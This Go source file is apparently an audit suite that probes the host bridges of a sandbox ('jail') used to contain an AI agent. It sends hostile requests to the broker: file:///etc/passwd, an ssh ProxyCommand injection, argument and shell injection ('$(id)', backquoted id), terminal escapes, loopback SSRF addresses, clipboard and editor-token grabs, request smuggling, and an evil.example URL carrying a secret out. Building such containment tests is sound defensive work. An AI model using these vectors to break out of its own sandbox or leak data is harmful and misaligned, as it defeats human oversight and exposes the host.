package bridges

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/jailed-claude/jailed-claude/runtime/audit/attack"
)

// Class of all attacks here.
const Class = "bridges"

// socket is where programs of the jail ask. Tests have another.
var socket = "/run/jail/bridge"

// patience is more than the host takes for anything.
const patience = 10 * time.Second

// control is what the jail may ask for. It is asked for once.
const control = `{"bridge":"notify","title":"audit"}`

// say sends a line, and returns the answer, or what stands for it.
func say(line string) (answer string, done bool) {
	why, _, done := ask(line)
	return why, done
}

// ask is say, with all that comes back.
func ask(line string) (why string, whole []byte, done bool) {
	c, err := net.Dial("unix", socket)
	if err != nil {
		return attack.Plain(err), nil, false
	}
	defer c.Close()
	_ = c.SetDeadline(soon())
	if _, err := c.Write([]byte(line + "\n")); err != nil {
		return attack.Plain(err), nil, false
	}
	in := bufio.NewReader(c)
	text, err := in.ReadBytes('\n')
	if err != nil {
		return attack.Plain(err), nil, false
	}
	var a struct{ Error string }
	if json.Unmarshal(text, &a) != nil {
		return "it is answered with what is no JSON", text, true
	}
	data, _ := io.ReadAll(in)
	return a.Error, append(text, data...), a.Error == ""
}

var works = sync.OnceValue(func() attack.Result {
	if _, err := os.Lstat(socket); err != nil {
		return attack.Inapplicable("there are no bridges")
	}
	if why, done := say(control); !done {
		return attack.Failure("the bridge that is there does nothing: %s", why)
	}
	return attack.Through("it works")
})

// page asks for one.
func page(url string) string {
	text, err := json.Marshal(map[string]string{"bridge": "open", "url": url})
	if err != nil {
		return "" // a string can be marshalled
	}
	return string(text)
}

// request is a line to the broker.
type request struct{ name, source, line string }

// requests are what nobody may have done, with the bridges "open" (always) and
// "notify". One has a megabyte: they are made when they are asked for.
func requests() []request {
	return []request{
		{"open-file", "xdg-open(1)", page("file:///etc/passwd")},
		{"open-javascript", "URL schemes", page("javascript:alert(1)")},
		{"open-data", "URL schemes", page("data:text/html,x")},
		{"open-plain-http", "URL schemes", page("http://example.org/")},
		{"open-editor", "vscode://, CVE-2022-30129's kin", page("vscode://file/etc/passwd")},
		{"open-ssh", "CVE-2017-1000117: ssh://-oProxyCommand", page("ssh://-oProxyCommand=x/")},
		{"open-option", "CWE-88", page("--help")},
		{"open-option-before", "CWE-88", page("-P evil https://example.org/")},
		{"open-two-words", "CVE-2017-18266: xdg-open and BROWSER", page("https://example.org/ --profile x")},
		{"open-line-end", "CWE-93", page("https://example.org/\n--help")},
		{"open-escape", "what a terminal obeys", page("https://example.org/\x1b]0;x\x07")},
		{"open-quote", "CVE-2017-18266", page(`https://example.org/"$(id)`)},
		{"open-backquote", "CWE-78", page("https://example.org/`id`")},
		{"open-user", "RFC 3986, 7.6", page("https://example.org@evil.example/")},
		{"open-user-encoded", "RFC 3986, 7.6", page("https://example.org%40evil.example/")},
		{"open-backslash", "WHATWG URL and RFC 3986 differ", page(`https://evil.example\@example.org/`)},
		{"open-loopback", "the caller's services", page("https://127.0.0.1/")},
		{"open-loopback-short", "inet_aton(3)", page("https://0x7f.1/")},
		{"open-loopback-ipv6", "RFC 4291", page("https://[::1]/")},
		{"open-localhost", "the caller's services", page("https://localhost/")},
		{"open-router", "names of the caller's network", page("https://fritz.box.internal/")},
		{"open-answering", "RFC 8252, 7.3: a port of the caller's loopback", page("https://example.org/?redirect_uri=http://localhost:8000/")},
		{"open-long", "CWE-770", page("https://example.org/" + strings.Repeat("x", 5000))},
		{"open-and-more", "strict parsing", `{"bridge":"open","url":"https://example.org/","title":"x"}`},
		{"clipboard-targets", "ICCCM", `{"bridge":"clipboard","type":"TARGETS"}`},
		{"clipboard-files", "names of files that were copied", `{"bridge":"clipboard","type":"text/uri-list"}`},
		{"clipboard-option", "CWE-88", `{"bridge":"clipboard","type":"--primary"}`},
		{"clipboard-primary", "what is marked is not copied", `{"bridge":"clipboard","type":"image/png","selection":"primary"}`},
		{"ide-window", "what the supervisor alone asks: the editor's token", `{"bridge":"ide","project":"{project}"}`},
		{"ide-path", "what the supervisor alone asks: the host's files", `{"bridge":"ide","path":"/etc"}`},
		{"display-trusted", "what the supervisor alone asks: a cookie", `{"bridge":"display","type":"x11-trusted"}`},
		{"clipboard-text", "xclip(1)", `{"bridge":"clipboard","type":"text/plain"}`},
		{"exec", "there is none", `{"bridge":"exec","url":"https://example.org/"}`},
		{"notify-escape", "what a terminal obeys", `{"bridge":"notify","title":"\u001b[2J"}`},
		{"notify-lines", "looking like another program", `{"bridge":"notify","title":"a\nb"}`},
		{"notify-turned", "CVE-2021-42574", `{"bridge":"notify","title":"a\u202eb"}`},
		{"notify-long", "CWE-770", `{"bridge":"notify","title":"` + strings.Repeat("x", 1000) + `"}`},
		{"two-requests", "request smuggling", `{"bridge":"notify","title":"audit"}{"bridge":"open","url":"file:///etc/passwd"}`},
		{"huge", "CWE-770", `{"bridge":"notify","title":"` + strings.Repeat("x", 1<<20) + `"}`},
		{"garbage", "strict parsing", "\x00\x01\xff"},
	}
}

// desktopAttack is on what a jail may have of the desktop: the clipboard, the editor,
// a display.
type desktopAttack struct {
	name, source string
	run          func(*attack.Env) attack.Result
}

// mayNotify is how many notifications a minute no person would miss.
const mayNotify = 20

// mayLook is how often a person pastes.
const mayLook = 40

// Attacks ask for more than the words of a policy say.
func Attacks() []attack.Attack {
	var all []attack.Attack
	add := func(name, source, success string, run func(e *attack.Env) attack.Result) {
		all = append(all, attack.Attack{
			Name: "bridge-" + name, Class: Class, Promise: attack.PromiseServices, Source: source, Success: success, Apart: true,
			Run: func(e *attack.Env) attack.Result {
				if r := works(); r.Verdict != attack.GotThrough {
					return r
				}
				return run(e)
			},
		})
	}
	for _, r := range requests() {
		add(r.name, r.source, "the host does it", func(e *attack.Env) attack.Result {
			why, done := say(strings.ReplaceAll(r.line, "{project}", e.Desk.Project))
			if done {
				return attack.Through("it is done %s", why)
			}
			return attack.HeldBy("%s", why)
		})
	}
	add("open-carry", "an address carries out what the jail knows", "the host does it", func(e *attack.Env) attack.Result {
		if e.Facts.Net == "internet" {
			return attack.Inapplicable("the jail may connect to every name itself")
		}
		if why, done := say(page("https://evil.example/?q=secret")); !done {
			return attack.HeldBy("%s", why)
		}
		return attack.Through("it is done")
	})
	add("peer-outside", "SO_PEERCRED: a process that is in no jail", "it is answered", func(e *attack.Env) attack.Result {
		if err := e.Ask(peer); err != nil {
			return attack.Failure("%v", err)
		}
		for end := soon(); time.Now().Before(end); time.Sleep(time.Millisecond) {
			if text, err := os.ReadFile(e.Desk.Answer); err == nil {
				return attack.HeldBy("%s", text)
			}
		}
		return attack.Failure("the host has not tried")
	})
	for _, c := range clipboardAttacks() {
		add("clipboard-"+c.name, c.source, "the jail has more than an image", c.run)
	}
	for _, c := range editorAttacks() {
		add("ide-"+c.name, c.source, "the editor does it, or says it", c.run)
	}
	for _, c := range displayAttacks() {
		add("display-"+c.name, c.source, "the jail has more than one socket", c.run)
	}
	flood := func(line string, most int) func(*attack.Env) attack.Result {
		return func(*attack.Env) attack.Result {
			n, last := 0, ""
			for range 200 {
				why, done := say(line)
				if last = why; done {
					n++
				}
			}
			if n > most {
				return attack.Through("%d times in a moment", n)
			}
			return attack.HeldBy("%s", last)
		}
	}
	add("flood", "CWE-770", "the host does it as often as it is asked", flood(control, mayNotify))
	add("clipboard-flood", "a clipboard that is watched", "the host does it as often as it is asked", flood(`{"bridge":"clipboard"}`, mayLook))
	add("starts-other", "CWE-88", "a program of the host is called otherwise", func(*attack.Env) attack.Result {
		return attack.HeldBy("the programs of the host say how they were called")
	})
	for i := range all {
		all[i].Judge = func(w attack.Witness, r attack.Result) attack.Result {
			if r.Verdict == attack.Held && w.Arrived(all[i].Name) {
				return attack.Through("the host saw it come through")
			}
			return r
		}
	}
	return append(all, offAttacks()...)
}

// offAttacks are made in the jail that is audited: on what its policy does not name.
func offAttacks() []attack.Attack {
	off := func(name string, granted func(f attack.Facts) bool, run func() attack.Result) attack.Attack {
		return attack.Attack{
			Name: "bridge-" + name, Class: Class, Promise: attack.PromiseServices, Source: "another bridge than the policy names", Success: "the host does it",
			Run: func(e *attack.Env) attack.Result {
				if granted(e.Facts) {
					return attack.Inapplicable("the policy grants it")
				}
				return run()
			},
		}
	}
	asked := func(line string) func() attack.Result {
		return func() attack.Result {
			if why, done := say(line); !done {
				return attack.HeldBy("%s", why)
			}
			return attack.Through("it is done")
		}
	}
	clipboard := func(f attack.Facts) bool { return f.Clipboard }
	return []attack.Attack{
		off("clipboard-off", clipboard, asked(`{"bridge":"clipboard"}`)),
		off("clipboard-image-off", clipboard, asked(`{"bridge":"clipboard","type":"image/png"}`)),
		off("ide-off", func(f attack.Facts) bool { return f.IDE }, func() attack.Result {
			c, err := net.DialTimeout("tcp", editorAt, patience)
			if err != nil {
				return attack.HeldBy("%s", attack.Plain(err))
			}
			defer c.Close()
			_ = c.SetDeadline(soon())
			if _, said, err := upgrade(c, "/"); said == "" {
				return attack.HeldBy("%s", attack.Plain(err))
			}
			return attack.Through("an editor answers")
		}),
	}
}
